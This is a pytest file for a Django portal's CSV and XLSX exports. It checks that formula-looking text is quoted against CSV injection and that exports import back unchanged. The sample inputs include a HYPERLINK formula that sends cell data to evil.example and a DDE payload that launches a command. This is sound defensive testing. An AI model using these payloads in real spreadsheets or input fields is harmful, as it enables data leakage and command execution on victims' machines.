"""Imported text never becomes a live formula in an export (OWASP "CSV injection", issue 19).

A title ``=HYPERLINK(...)`` imported by one city's editor used to be a clickable formula in every
coordinator's spreadsheet. Each CSV and XLSX the portal writes must quote formula-looking text,
and a plan exported that way still imports back to the same plan."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from action_plans.models import ActionPlanPage, Initiative
from action_plans.services import import_plans
from core.spreadsheets import FORMULA_START, safe_cell, unquote_cell
from events.models import EventPage, Registration
from progress.models import ProgressUpdate
from search.models import Overlap

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _live(text: str) -> bool:
    """A cell a spreadsheet program would evaluate: formula-looking text that is not a number."""
    return safe_cell(text) != text


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))  # not data_only: a formula reads as its text
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def assert_quoted(cells: list, *texts: str) -> None:
    assert not [c for c in cells if isinstance(c, str) and _live(c)]
    for text in texts:
        assert "'" + text in cells, text


def test_the_rule_quotes_formulas_and_keeps_numbers():
    for text in [EVIL, *OTHERS]:
        assert safe_cell(text) == "'" + text and unquote_cell(safe_cell(text)) == text
        assert text.startswith(FORMULA_START)
    for value in ("-12.5", "+3", "-1e5", -4, 2.5, None, "plain", "'quoted"):
        assert safe_cell(value) == value
    assert unquote_cell("'quoted") == "'quoted"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plan_exports_quote_formulas_and_import_back(client, fmt):
    plan = ActionPlanPage.objects.get(city__name="Bangkok")
    first, second = plan.initiatives.order_by("pk")[:2]
    Initiative.objects.filter(pk=first.pk).update(title=EVIL, description="@SUM(A1:A9)")
    Initiative.objects.filter(pk=second.pk).update(title="-2+3 kilometres of canal")
    before = sorted(plan.initiatives.values_list("uid", "title", "description"))
    for url in (plan.url + f"export/{fmt}/", f"/ascn/export/{fmt}/"):
        content = client.get(url).content
        cells = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
        assert_quoted(cells, EVIL, "@SUM(A1:A9)", "-2+3 kilometres of canal")
    result = import_plans(user=None, data=content, filename=f"plan.{fmt}")
    assert result.ok, result.errors
    assert sorted(plan.initiatives.values_list("uid", "title", "description")) == before


def test_overlap_exports_quote_formulas(client_for):
    ascn = ActionPlanPage.objects.get(city__name="Bangkok").get_parent()
    pair = Overlap.objects.filter(a__plan__path__startswith=ascn.path).order_by("-score").first()
    Initiative.objects.filter(pk=pair.a_id).update(title=EVIL)
    reasons = {**pair.reasons, "solutions": [{"name": "@evil", "slug": "x"}]}
    Overlap.objects.filter(pk=pair.pk).update(reasons=reasons, note="+note")
    coordinator = client_for("ascn-coordinator")
    cells = csv_cells(coordinator.get("/ascn/overlaps/export/csv/").content)
    assert_quoted(cells, EVIL, "@evil")
    out = io.StringIO()
    call_command("export_overlaps", "--min-score", "0", "--format", "csv", stdout=out)
    assert_quoted(csv_cells(out.getvalue().encode()), "@evil")


def test_progress_exports_quote_formulas_and_keep_negative_numbers(client):
    update = ProgressUpdate.objects.filter(narrative__gt="").first()
    ProgressUpdate.objects.filter(pk=update.pk).update(narrative="=1+2")
    indicator = update.indicators.first()
    if indicator is not None:
        type(indicator).objects.filter(pk=indicator.pk).update(baseline=-5)
    for fmt in ("csv", "xlsx"):
        content = client.get(f"/progress/ascn/export/{fmt}/").content
        cells = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
        assert_quoted(cells, "=1+2")
        if indicator is not None:
            assert "-5" in cells
    uids = ProgressUpdate.objects.filter(date__year=2025).values("initiative_uid")
    Initiative.objects.filter(uid__in=uids).update(title=EVIL)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/progress/ascn/rounds/2025/report.{fmt}")
        assert response.status_code == 200
        cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
        assert_quoted(cells, EVIL)


def test_registration_export_quotes_formulas(client_for):
    event = EventPage.objects.filter(path__startswith=ActionPlanPage.objects.get(
        city__name="Bangkok").get_parent().path).first()  # fmt: skip
    bangkok = ActionPlanPage.objects.get(city__name="Bangkok").city
    Registration.objects.create(event=event, city=bangkok, name=EVIL, email="a@b.example",
                                position="@boss", status="confirmed")  # fmt: skip
    response = client_for("ascn-coordinator").get(event.url + "registrations/csv/")
    assert response.status_code == 200
    assert_quoted(csv_cells(response.content), EVIL, "@boss")
